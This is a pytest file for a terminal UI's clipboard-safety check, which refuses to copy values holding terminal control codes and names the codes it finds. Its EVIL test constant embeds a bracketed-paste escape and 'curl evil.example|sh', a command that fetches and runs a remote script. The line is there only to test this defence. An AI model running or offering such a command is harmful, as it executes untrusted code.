"""A value that a shell or a terminal would obey is not copied, and its codes are named."""

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.screens.conftest import ByHand, Run, reading
from tests.screens.test_copying import go_to
from widgets.text.clipboard_safety import has_lines, why_not_copied

Make = Callable[..., ByHand]
EVIL = "https://a.example/\x1b[201~\rcurl evil.example|sh\r"


@pytest.mark.parametrize(
    ("text", "lines", "why"),
    [
        (EVIL, False, "ESC (U+001B), a line end (U+000D)"),
        (EVIL, True, "ESC (U+001B), a line end (U+000D)"),
        ("a\nb", False, "a line end (U+000A)"),
        ("a\nb\r\nc\td", True, ""),
        ("a\tb", False, "a tab (U+0009)"),
        ("a\x9b201~", True, "U+009B"),
        ("a\u2028b", True, "U+2028"),
        ("a\ud800", True, "U+D800"),
        ("\0\x01\x02\x03\x04", False, "NUL (U+0000), U+0001, U+0002 and 2 more"),
        ("https://a.example/?q=ä€𝄞 ‍", False, ""),
    ],
)
def test_what_is_in_it_is_said(text: str, lines: bool, why: str) -> None:
    assert why_not_copied(text, lines=lines) == why


@given(st.text(alphabet=st.characters(categories=("L", "M", "N", "P", "S", "Zs", "Cf"))))
def test_what_anybody_can_see_is_always_copied(text: str) -> None:
    assert why_not_copied(text, lines=False) == ""


@pytest.mark.parametrize("member", ["EmailMessage", "EmailMessageByLink", "UICustomization.CSS"])
def test_texts_have_lines(member: str) -> None:
    assert has_lines(member)
    assert not has_lines("CallbackURLs")


@pytest.mark.parametrize(
    "member",
    [
        *("AttributeMapping.custom:aMessage", "AttributeMapping.EmailMessage", "MyCSS"),
        *("UserPoolTags.MyMessage", "UserPoolTags.EmailMessage", "MetadataFileURL", ""),
    ],
)
def test_what_only_sounds_like_a_text_has_none(member: str) -> None:
    assert not has_lines(member)


@pytest.mark.parametrize("from_details", [False, True])
async def test_c_refuses_a_value_that_would_run_in_a_shell(
    run: Run, by_hand: Make, from_details: bool
) -> None:
    made: dict[str, Any] = {"CallbackURLs": [EVIL]}
    async with run(lambda: by_hand(reading(made, {"CallbackURLs": []}))) as running:
        go_to(running, "4", running.panes.settings.cursor)
        running.stand_on_row("CallbackURLs")
        await running.press(*(("enter", "c") if from_details else ("c",)))
        assert not [text for text in running.app.sequences if "]52;" in text]
        if not from_details:
            assert "Not copied" in running.said
            assert "ESC (U+001B)" in running.said
        assert all(letter.isprintable() for line in running.lines for letter in line)
